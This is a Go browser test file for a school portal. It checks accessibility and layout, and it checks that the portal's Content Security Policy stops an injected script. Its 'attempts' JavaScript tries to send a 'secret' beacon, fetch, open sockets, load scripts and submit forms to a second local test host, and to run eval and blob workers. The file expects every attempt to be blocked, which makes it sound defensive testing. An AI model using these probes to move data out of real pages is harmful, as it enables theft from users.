// Package public_test looks at the pages without a script in a real browser,
// and at what the headers keep a script from doing.
package public_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"primum/internal/portal"
	"primum/internal/store"
	"primum/internal/webtest"
	"primum/internal/wire"
)

func TestMain(m *testing.M) { os.Exit(webtest.Main(m)) }

// notice is what a school says about the air in a room.
func notice() wire.Notice {
	return wire.Notice{
		ID: "room-4-air", Title: "Air in room 4", Language: "en", Contact: "mailto:house@school.example",
		About: "We measure so that windows are opened in time. Nobody is recognised.",
		Items: []wire.NoticeItem{
			{What: "Carbon dioxide", Every: "15m", Fine: "to 50 ppm", Kept: "13 months", Purpose: "airing", Inner: []string{"House technician"}, Outer: []string{"Class 4b", "Parents' council"}},
			{What: "Window open or closed", Every: "change", Kept: "1 day", Inner: []string{"House technician"}},
		},
	}
}

// serve serves a portal with one notice, and gives its address.
func serve(t *testing.T, change ...func(*portal.Config)) (string, *portal.Portal) {
	t.Helper()
	var handler http.Handler
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { handler.ServeHTTP(w, r) }))
	t.Cleanup(s.Close)
	cfg := portal.Config{
		Authority: strings.Replace(s.Listener.Addr().String(), "127.0.0.1", "h.localhost", 1), Version: "1.0", Loopback: true, Since: time.Now(),
		Next: http.NotFoundHandler(),
		Counts: func(context.Context) (portal.Counts, error) {
			return portal.Counts{Accounts: 3, Circles: 12, Messages: 48211}, nil
		},
		Notice: func(_ context.Context, id string) (wire.Notice, error) {
			if id != notice().ID {
				return wire.Notice{}, store.ErrNotFound
			}
			return notice(), nil
		},
	}
	for _, f := range change {
		f(&cfg)
	}
	p, err := portal.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(p.Stop)
	services := p.ServicePages() // a door lets browsers through to them
	handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, wire.ServicePages) {
			services.ServeHTTP(w, r)
			return
		}
		p.ServeHTTP(w, r)
	})
	return strings.Replace(s.URL, "127.0.0.1", "h.localhost", 1), p
}

// looks are how every page is pictured.
func looks() []webtest.Look {
	return []webtest.Look{webtest.Light, webtest.Dark, webtest.Phone390, webtest.Phone390 | webtest.Dark}
}

func TestPagesWithoutScript(t *testing.T) {
	t.Parallel()
	url, p := serve(t)
	bare, _ := serve(t, func(c *portal.Config) { c.Assets = fstest.MapFS{} })
	for name, page := range map[string]struct {
		url, mark, log string
	}{
		"start":   {url + "/", "@start", ""},
		"thing":   {url + "/thing/room-4-air", "@thing", ""},
		"missing": {url + "/thing/none", "@missing", "404"},
		"unbuilt": {bare + "/my", "@unbuilt", "503"},
	} {
		for _, lang := range []string{"en", "ar"} {
			tab := webtest.NewTab(t)
			if page.log != "" {
				tab.MayLog(page.log)
			}
			tab.Open(page.url + "?lang=" + lang)
			tab.WaitVisible(page.mark)
			tab.Axe()
			tab.Shot("public-"+name+"-"+lang, looks()...)
			var scripts, overflow int
			tab.Eval(`document.scripts.length`, &scripts)
			tab.Eval(`Math.max(0, document.documentElement.scrollWidth - document.documentElement.clientWidth)`, &overflow)
			if scripts > 0 || overflow > 0 {
				t.Errorf("%s in %s: %d scripts, %d px too wide", name, lang, scripts, overflow)
			}
		}
	}
	if p.Reports() != 0 {
		t.Errorf("%d reports of a violated policy", p.Reports())
	}
}

func TestThingPageByKeyboard(t *testing.T) {
	t.Parallel()
	url, _ := serve(t)
	tab := webtest.NewTab(t)
	tab.Open(url + "/thing/room-4-air")
	for _, want := range []string{"a", "open-portal", "object"} {
		tab.Press("Tab")
		if got := tab.Focused(); got != want {
			t.Errorf("the focus is on %s, want %s", got, want)
		}
	}
	tab.Open(url + "/thing/room-4-air?lang=de")
	tab.WaitText("@thing", "alle 15 Minuten")
	tab.Open(url + "/") // the choice is remembered
	tab.WaitText("@start", "Mein Portal öffnen")
}

// attempts is what an injected script would try. It is given to the page as the
// portal's own script, so that nothing of the browser's tools helps it.
const attempts = `
const within = (p) => Promise.race([p, new Promise((r) => setTimeout(() => r("stopped"), 3000))]);
const thrown = (f) => { try { f(); return "done"; } catch { return "stopped"; } };
const loaded = (tag, set) => new Promise((r) => {
	const e = document.createElement(tag);
	e.onload = () => r("done"); e.onerror = () => r("stopped");
	try { set(e); } catch { r("stopped"); return; }
	document.body.append(e);
});
const away = new URLSearchParams(location.search).get("away");
const tries = {
	"fetch elsewhere": () => fetch(away + "/").then(() => "done", () => "stopped"),
	"socket elsewhere": () => new Promise((r) => {
		try { const s = new WebSocket(away.replace("http", "ws") + "/"); s.onopen = () => r("done"); s.onerror = () => r("stopped"); } catch { r("stopped"); }
	}),
	"beacon elsewhere": () => new Promise((r) => {
		document.addEventListener("securitypolicyviolation", () => r("stopped"), { once: true });
		navigator.sendBeacon(away + "/", "secret");
	}),
	"picture elsewhere": () => loaded("img", (e) => { e.src = away + "/x.png"; }),
	"script elsewhere": () => loaded("script", (e) => { e.src = away + "/x.js"; }),
	"inline script": () => thrown(() => { const e = document.createElement("script"); e.textContent = "window.injected = 1"; document.body.append(e); if (!window.injected) throw 0; }),
	"script from a blob": () => loaded("script", (e) => { e.src = URL.createObjectURL(new Blob(["1"])); }),
	"worker from a blob": () => thrown(() => new Worker(URL.createObjectURL(new Blob(["1"])))),
	"text as markup": () => thrown(() => { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); }),
	"text as code": () => thrown(() => eval("1")),
	"text as a function": () => thrown(() => new Function("return 1")()),
	"text as a timer": () => thrown(() => setTimeout("window.injected = 1")),
	"another policy": () => thrown(() => trustedTypes.createPolicy("mine", { createHTML: (s) => s })),
	"default policy": () => thrown(() => trustedTypes.createPolicy("default", { createHTML: (s) => s })),
	"style in the page": () => { const e = document.createElement("style"); e.textContent = "body { outline: 7px solid red }"; document.head.append(e); return getComputedStyle(document.body).outlineWidth === "7px" ? "done" : "stopped"; },
	"frame elsewhere": () => new Promise((r) => {
		document.addEventListener("securitypolicyviolation", () => r("stopped"), { once: true });
		const e = document.createElement("iframe"); e.src = away + "/"; document.body.append(e);
	}),
	"form elsewhere": () => new Promise((r) => {
		document.addEventListener("securitypolicyviolation", () => r("stopped"), { once: true });
		const e = document.createElement("form"); e.action = away + "/"; e.method = "post"; document.body.append(e); e.submit();
	}),
	"base elsewhere": () => { const e = document.createElement("base"); e.href = away + "/"; document.head.append(e); return new URL("x", document.baseURI).href.startsWith(away) ? "done" : "stopped"; },
	"carried answer as a script": () => loaded("script", (e) => { e.src = "/via/" + away.slice(7) + "/v1/x"; }),
	"isolated": () => crossOriginIsolated ? "stopped" : "done",
	"the engine compiles": async () => { await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return "stopped"; },
	"its own policy": () => { trustedTypes.createPolicy("primum", { createScriptURL: (s) => s }); return "stopped"; },
};
window.results = {};
for (const [name, run] of Object.entries(tries)) {
	try { window.results[name] = await within(run()); } catch (e) { window.results[name] = "failed: " + e; }
}
window.finished = true;
export {};
`

// withScript is a build whose portal is one script.
func withScript(script string) fstest.MapFS {
	files := fstest.MapFS{}
	var m portal.Manifest
	for name, content := range map[string]string{"assets/my.01234567.js": script, "assets/style.01234567.css": "body { margin: 0 }"} {
		sum := sha256.Sum256([]byte(content))
		files[name] = &fstest.MapFile{Data: []byte(content)}
		m.Assets = append(m.Assets, portal.Asset{Path: "/" + name, SHA256: hex.EncodeToString(sum[:]), Bytes: int64(len(content))})
	}
	b, _ := json.Marshal(m)
	files["manifest.json"] = &fstest.MapFile{Data: b}
	return files
}

// TestPolicyHoldsInABrowser: none of it works, and what the portal needs does.
func TestPolicyHoldsInABrowser(t *testing.T) {
	t.Parallel()
	url, _ := serve(t, func(c *portal.Config) { c.Assets = withScript(attempts) })
	away, _ := serve(t)
	tab := webtest.NewTab(t)
	tab.MayReach(strings.TrimPrefix(away, "http://"))
	for _, expected := range []string{"policy:", "Content Security Policy", "Trusted", "Refused", "403", "request", "violates", "blocked"} {
		tab.MayLog(expected)
	}
	tab.Open(url + "/my?away=" + away)
	tab.WaitFor(`window.finished === true`)
	results := map[string]string{}
	tab.Eval(`window.results`, &results)
	if len(results) < 20 {
		t.Errorf("only %d attempts were made", len(results))
	}
	for name, got := range results {
		if got != "stopped" {
			t.Errorf("%s: %s", name, got)
		}
	}
	for _, r := range tab.Requests() {
		if strings.Contains(r, strings.TrimPrefix(away, "http://")+"/") && !strings.Contains(r, "/my?away=") && !strings.Contains(r, "/via/") {
			t.Errorf("it got out: %s", r)
		}
	}
	tab.Open(url + "/") // the page of the attempts is no page that anybody sees
}
